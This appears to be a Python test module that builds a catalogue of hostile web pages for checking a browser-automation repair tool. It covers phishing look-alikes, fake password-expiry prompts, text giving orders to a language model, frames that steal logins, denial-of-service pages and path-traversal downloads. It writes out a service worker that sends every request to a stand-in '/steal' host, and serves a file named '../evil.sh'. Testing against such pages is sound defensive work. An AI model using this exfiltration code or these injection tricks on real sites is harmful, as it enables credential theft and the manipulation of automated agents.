"""Pages that mean harm: to be taken for what they are not, to get at a password, to break whoever looks at them."""

import asyncio
from collections.abc import AsyncIterator, Mapping
from typing import Any

from starlette.responses import HTMLResponse, Response, StreamingResponse

from tests.site.states.answers import HERE, HOLD_SECONDS, Answer, Answering, Visit, redirect, text
from tests.site.states.catalogue import Case, Kind
from tests.site.states.steps import click, fill, read, sign_in, visit
from webmend.domain.failure import Category, SubType

FOLDER = "hostile"
PAY = "role=button[Continue to payments]"
REPAIRS = (SubType.DISMISSIBLE, Category.XPATH_INCORRECT)
"""Answers that would start to change a workflow, or press something."""


def case(id_: str, what: str, *nodes: Any, never: tuple[Any, ...] = (), file: str = "", **pages: Answer) -> Case:
    """A hostile site with a foreign host beside it; opened, then `nodes`, or the search for a button."""
    name = f"hostile-{id_}"
    foreign = f"{name}-foreign.example"
    names = {"FOREIGN": f"http://{foreign}", "HOME": f"http://{name}.example"}
    return Case(
        id=name,
        what=what,
        kind=Kind.HOSTILE,
        pages={
            "/": _page(file or id_.replace("-", "_"), names),
            f"//{foreign}/*": _foreign(names),
            "/welcome.html": _page("welcome", names),
            "/login.html": _page("login", names),
            **{_path(key): answer for key, answer in pages.items()},
        },
        nodes=nodes or (visit("/"), click(PAY, name="Go on to the payments")),
        foreign=(foreign,),
        never=never,
    )


def _path(key: str) -> str:
    return "/" + key.replace("_", "-")


def _page(file: str, names: Mapping[str, str]) -> Answering:
    """A page with the two hosts put in."""
    said = (HERE / FOLDER / f"{file}.html").read_text(encoding="utf-8")
    for word, address in names.items():
        said = said.replace(word, address)
    return lambda visit: HTMLResponse(said)


def _foreign(names: Mapping[str, str]) -> Answering:
    """The foreign host: its pages, and thanks for whatever it is sent."""

    def answer(visit: Visit) -> Response:
        file = HERE / FOLDER / visit.path.rpartition("/")[2]
        known = file.suffix == ".html" and file.is_file()
        return HTMLResponse(file.read_text(encoding="utf-8") if known else "<h1>Thank you</h1>")

    return answer


LOGIN = (
    *sign_in("label=User name", "label=Password", "role=button[Sign in]", path="/", name="Sign in"),
    click(PAY, name="Go on to the payments"),
)
IN_FRAME = (
    visit("/"),
    fill("label=User name", "{{ credentials.portal.username }}", frame="#signin"),
    fill("label=Password", "{{ credentials.portal.password }}", frame="#signin"),
    click("role=button[Sign in]", frame="#signin"),
)

FAKES = (
    case("expired-in-a-comment", "Somebody's post says that the password has expired, and brings the form."),
    case("expired-in-an-advertisement", "An advertisement of a foreign host shows a form to change the password."),
    case("expired-hidden", "Words and fields of an expired password, displayed nowhere, or out of sight."),
    case("expired-in-alternative-text", "A picture's alternative text says that the password has expired."),
    case("expired-in-a-guide", "A help page explains what one does when a password has expired."),
    case("expired-in-a-chat-widget", "A chat in a closed shadow root plays the security team."),
    case("enrolment-in-an-advertisement", "An advertisement shows a QR code to set up a second factor."),
    case("enrolment-in-a-post", "A guest's post shows a QR code to set up a second factor."),
    case("secret-in-a-chat", "A message names a key and asks for the code."),
    case("outage-told-by-a-user", "A comment says 503; the page's own status is 200."),
    case("consent-that-costs", "A cookie notice whose reject and close buttons buy something.", never=REPAIRS),
    case("removal-dressed-as-close", "A question whose every button deletes.", never=REPAIRS),
    case("orders-to-a-model", "Text that tells a language model what to answer."),
    case("orders-everywhere", "The names of categories in title, language, heading, ids and console."),
    case(
        "words-of-the-driver",
        "The page speaks as the driver does when a selector matches several.",
        never=(SubType.AMBIGUOUS_MATCHES,),
    ),
    case("look-alike-letters", "An expired password in letters of other alphabets, with nothing between them."),
    case("session-over-in-an-advertisement", "An advertisement without an origin asks to sign in again."),
)

THIEVES = (
    case("button-in-a-foreign-frame", "The button is gone, and a foreign frame has one that looks the same."),
    case("glass-over-the-button", "An invisible foreign frame lies over the button.", never=(SubType.DISMISSIBLE,)),
    case("login-in-a-foreign-frame", "The login form is in a foreign frame.", *IN_FRAME),
    case("login-in-a-data-frame", "The login form is in a frame without an origin.", *IN_FRAME),
    case(
        "login-in-a-frame-that-changes", "The frame of the login is by turns of this and of a foreign host.", *IN_FRAME
    ),
    case("login-that-moves-away", "The page goes to a foreign look-alike once the user name is typed.", *LOGIN),
    case("login-behind-a-redirect", "The address of the login leads to a foreign look-alike.", *LOGIN),
    case("login-of-a-base", "The form's relative address is made foreign by a base element.", *LOGIN),
    case("login-sent-elsewhere", "The form is sent to a foreign host.", *LOGIN),
    case("login-sent-elsewhere-by-its-button", "The button sends the form to a foreign host.", *LOGIN),
    case("login-copied-by-script", "A script sends every letter to a foreign host, in three ways.", *LOGIN),
    case("login-copied-by-socket", "A script sends every letter to a foreign host through a web socket.", *LOGIN),
    case("login-copied-at-the-click", "A second form takes the password along to a foreign host.", *LOGIN),
    case("password-in-the-address", "The page writes the password into title, address, heading and console.", *LOGIN),
    case(
        "worker-between",
        "A service worker tells a foreign host of every request.",
        *LOGIN,
        **{
            "worker.js": text(
                "self.onfetch = e => e.waitUntil(fetch('http://hostile-worker-between-foreign.example/steal?'"
                " + encodeURIComponent(e.request.url)))",
                "text/javascript",
            )
        },
    ),
)

TOO_MUCH = (
    case("fifty-thousand-nodes", "A page of 50,000 elements."),
    case("five-thousand-levels", "A page five thousand levels deep."),
    case("a-thousand-frames", "A thousand frames, each with a button."),
    case("frames-within-frames", "Frames in frames, as deep as the browser goes."),
    case("ten-megabytes", "Ten megabytes of words that would mean something."),
    case("huge-attributes", "Attributes of more than a megabyte."),
    case("huge-title", "A title of a million characters that do not belong there."),
    case("alert-loop", "Alerts without end."),
    case("confirm-loop", "A question without end, and harm when it is answered with yes."),
    case("prompt-loop", "Asks for the password until something is typed."),
    case("print-loop", "Prints and prints."),
    case("window-storm", "Opens windows all the time."),
    case(
        "leaving-forbidden",
        "Will not be left, and takes its time when it is.",
        visit("/"),
        click(PAY, name="Go on"),
        click("role=button[Pay]", name="Pay"),
    ),
    case("spinning", "A script that never ends, once the page is there."),
    case("spinning-at-once", "A script that never ends, from the start."),
    case("mutation-storm", "Changes its content as fast as it can."),
    case("reload-loop", "Loads itself again and again."),
    case("history-flood", "Writes thousands of addresses into the history."),
    case("console-flood", "Writes and writes to the console."),
    case("request-flood", "Sends two thousand requests a second."),
    case("memory-hog", "Takes half a gigabyte."),
    case("growing-list", "Grows by ten thousand buttons a second."),
    case("a-thousand-dialogs", "A thousand dialogs, one over the other.", never=(SubType.DISMISSIBLE,)),
)

BROKEN = (
    case("boxes-that-throw", "Asking where an element is fails."),
    case("arrays-that-lie", "The functions of arrays say that the password has expired."),
    case("json-that-lies", "JSON is written by the page."),
    case("queries-that-throw", "Elements cannot be looked for."),
    case("queries-that-lie", "Looking for fields finds two for a new password."),
    case("getters-that-throw", "Texts, title and state cannot be read."),
    case("polluted-prototype", "Every object has fields of the evidence."),
    case("thenable-prototype", "Every object is a promise that is never kept."),
    case("clocks-that-stop", "No timer ever fires, and promises are another thing."),
    case("clobbered-form", "Fields are called as the functions that one would call."),
    case("shadow-maze", "Four hundred shadow roots, one in the other."),
    case("shadow-circle", "An element that is its own parent."),
)

WAYS_OUT = (
    case("link-to-data", "Goes to an address that is its own content."),
    case("link-to-a-file", "Goes to files of the machine and pages of the browser."),
    case(
        "downloads",
        "Starts downloads under names that lead out of a folder.",
        attachment=text(
            "x" * 100_000, "application/octet-stream", content_disposition="attachment; filename=../evil.sh"
        ),
    ),
    case("other-programs", "Calls other programs by their protocols."),
    case("permissions", "Asks for everything that one can ask for."),
    case("page-that-closes-itself", "Closes itself."),
)


def _turning(to: str) -> Answering:
    return lambda visit: redirect(f"{to}?{visit.count}")(visit)


def _leading_on(to: str) -> Answering:
    page = "<meta http-equiv=refresh content='0;url={}?{}'><h1>Your password has expired</h1>"
    return lambda visit: HTMLResponse(page.format(to, visit.count))


def _endless(visit: Visit) -> Response:
    async def body() -> AsyncIterator[str]:
        for _ in range(int(HOLD_SECONDS / 0.05)):
            yield "<p>Your password has expired.</p>" * 2000
            await asyncio.sleep(0.05)

    return StreamingResponse(body(), media_type="text/html")


WITHOUT_END = (
    case(
        "endless-redirect",
        "A redirect to itself, under another address each time.",
        visit("/round"),
        click(PAY),
        file="welcome",
        round=_turning("/round"),
    ),
    case(
        "endless-refresh",
        "A page that leads to itself.",
        visit("/round"),
        click(PAY),
        file="welcome",
        round=_leading_on("/round"),
    ),
    case(
        "endless-response",
        "A document that does not end.",
        visit("/endless"),
        click(PAY),
        file="welcome",
        endless=_endless,
    ),
    case(
        "endless-reading",
        "A document that does not end, and is read.",
        visit("/endless"),
        read("body"),
        click(PAY),
        file="welcome",
        endless=_endless,
    ),
)

CASES = (*FAKES, *THIEVES, *TOO_MUCH, *BROKEN, *WAYS_OUT, *WITHOUT_END)
